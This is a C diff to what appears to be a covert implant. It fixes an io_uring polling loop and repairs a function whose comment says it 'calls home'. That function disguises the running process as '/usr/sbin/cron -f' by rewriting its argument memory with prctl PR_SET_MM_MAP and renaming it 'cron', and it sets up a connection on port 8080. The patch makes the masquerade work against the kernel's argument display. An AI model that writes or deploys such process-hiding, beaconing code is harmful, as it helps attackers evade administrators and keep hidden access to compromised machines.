@@ -30,6 +30,7 @@ static int polled_do(struct ring *ring, const struct io_uring_sqe *request)
     unsigned slot = *tail & *ring_word(ring, ring->params.sq_off.ring_mask);
     unsigned *head = ring_word(ring, ring->params.cq_off.head);
     unsigned *answered = ring_word(ring, ring->params.cq_off.tail);
+    unsigned *flags = ring_word(ring, ring->params.sq_off.flags);
     struct io_uring_cqe *answers = (struct io_uring_cqe *)(ring->rings + ring->params.cq_off.cqes);
     ring->requests[slot] = *request;
     ring_word(ring, ring->params.sq_off.array)[slot] = slot;
@@ -40,9 +41,11 @@ static int polled_do(struct ring *ring, const struct io_uring_sqe *request)
             __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
             return result;
         }
+        /* It may have gone to sleep before it saw anything. */
+        if (__atomic_load_n(flags, __ATOMIC_ACQUIRE) & IORING_SQ_NEED_WAKEUP)
+            syscall(SYS_io_uring_enter, ring->fd, 0, 0, IORING_ENTER_SQ_WAKEUP, 0, 0);
         usleep(1000);
     }
-    fprintf(stderr, "flags %x\n", *ring_word(ring, ring->params.sq_off.flags));
     return -1;
 }
 
@@ -138,15 +141,16 @@ static int by_registers(int pid)
  * everything is told at once, then calls home. */
 static int other_arguments(void)
 {
-    /* Written, so that its page is no longer one of the program's file. */
-    static char shown[] = "?usr/sbin/cron\0-f";
+    /* The kernel shows arguments only from anonymous memory. */
+    static const char words[] = "/usr/sbin/cron\0-f";
+    char *shown = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
     char line[2048] = "", seen[64] = "";
     unsigned long at[52] = { 0 };
     struct sockaddr_in home = { .sin_family = AF_INET, .sin_port = htons(8080) };
     int fd = open("/proc/self/stat", O_RDONLY);
-    if (read(fd, line, sizeof line - 1) <= 0)
+    if (shown == MAP_FAILED || read(fd, line, sizeof line - 1) <= 0)
         return 1;
-    shown[0] = '/';
+    memcpy(shown, words, sizeof words);
     /* The third field, the first after the name, is a letter. */
     char *rest = strrchr(line, ')') + 3;
     for (int field = 4; field < 52; field++)
@@ -154,7 +158,7 @@ static int other_arguments(void)
     struct prctl_mm_map map = {
         .start_code = at[26], .end_code = at[27], .start_stack = at[28], .start_data = at[45],
         .end_data = at[46], .start_brk = at[47], .brk = (unsigned long)sbrk(0),
-        .arg_start = (unsigned long)shown, .arg_end = (unsigned long)shown + sizeof shown,
+        .arg_start = (unsigned long)shown, .arg_end = (unsigned long)shown + sizeof words,
         .env_start = at[50], .env_end = at[51], .exe_fd = (unsigned)-1,
     };
     if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) || prctl(PR_SET_NAME, "cron"))
